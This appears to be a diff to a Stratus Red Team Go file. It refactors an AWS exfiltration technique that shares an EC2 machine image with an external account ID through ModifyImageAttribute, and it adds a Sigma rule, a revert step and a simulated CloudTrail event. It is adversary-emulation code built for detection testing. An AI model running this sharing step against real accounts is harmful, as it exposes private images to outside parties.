@@ -1,22 +1,23 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:           "aws.exfiltration.ec2-share-ami",
@@ -49,11 +50,14 @@ that the AMI was shared with a new or unknown AWS account, such as:
 An attacker can also make an AMI completely public. In this case, the <code>item</code> entry 
 will look like <code>{"groups":"all"}</code>. 
 `,
+		SigmaRules:                 sigma,
 		Platform:                   stratus.AWS,
 		IsIdempotent:               true,
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Exfiltration},
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"ami_id"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
@@ -62,12 +66,12 @@ var amiPermissions = []types.LaunchPermission{
 	{UserId: aws.String("012345678901")},
 }
 
-func detonate(params map[string]string) error {
-	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
-	amiId := params["ami_id"]
+func detonate(execution *stratus.ExecutionContext) error {
+	ec2Client := ec2.NewFromConfig(execution.AWS.GetConnection())
+	amiId := execution.Parameters["ami_id"]
 
-	log.Println("Exfiltrating AMI " + amiId + " by sharing it with an external AWS account")
-	_, err := ec2Client.ModifyImageAttribute(context.Background(), &ec2.ModifyImageAttributeInput{
+	execution.Logger.Println("Exfiltrating AMI " + amiId + " by sharing it with an external AWS account")
+	_, err := ec2Client.ModifyImageAttribute(execution.Context, &ec2.ModifyImageAttributeInput{
 		ImageId: &amiId,
 		LaunchPermission: &types.LaunchPermissionModifications{
 			Add: amiPermissions,
@@ -75,7 +79,7 @@ func detonate(params map[string]string) error {
 	})
 
 	if err != nil && utils.IsErrorDueToEBSEncryptionByDefault(err) {
-		log.Println("Note: Stratus detonated the attack, but the sharing was unsuccessful. " +
+		execution.Logger.Println("Note: Stratus detonated the attack, but the sharing was unsuccessful. " +
 			"This is likely because EBS default encryption is enabled in the region. " +
 			"Nonetheless, it did simulate a plausible attacker action.")
 		return nil
@@ -88,12 +92,12 @@ func detonate(params map[string]string) error {
 	return nil
 }
 
-func revert(params map[string]string) error {
-	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
-	amiId := params["ami_id"]
+func revert(execution *stratus.ExecutionContext) error {
+	ec2Client := ec2.NewFromConfig(execution.AWS.GetConnection())
+	amiId := execution.Parameters["ami_id"]
 
-	log.Println("Reverting exfiltration of AMI " + amiId + " by removing cross-account sharing")
-	_, err := ec2Client.ModifyImageAttribute(context.Background(), &ec2.ModifyImageAttributeInput{
+	execution.Logger.Println("Reverting exfiltration of AMI " + amiId + " by removing cross-account sharing")
+	_, err := ec2Client.ModifyImageAttribute(execution.Context, &ec2.ModifyImageAttributeInput{
 		ImageId: &amiId,
 		LaunchPermission: &types.LaunchPermissionModifications{
 			Remove: amiPermissions,
@@ -106,3 +110,18 @@ func revert(params map[string]string) error {
 
 	return nil
 }
+
+// simulate generates the CloudTrail event of the AMI being shared
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	var added []interface{}
+	for _, permission := range amiPermissions {
+		added = append(added, map[string]interface{}{"userId": *permission.UserId})
+	}
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "ec2.amazonaws.com", "ModifyImageAttribute", map[string]interface{}{
+			"imageId":          "ami-" + utils.RandomHexString(17),
+			"attributeType":    "launchPermission",
+			"launchPermission": map[string]interface{}{"add": map[string]interface{}{"items": added}},
+		}),
+	}
+}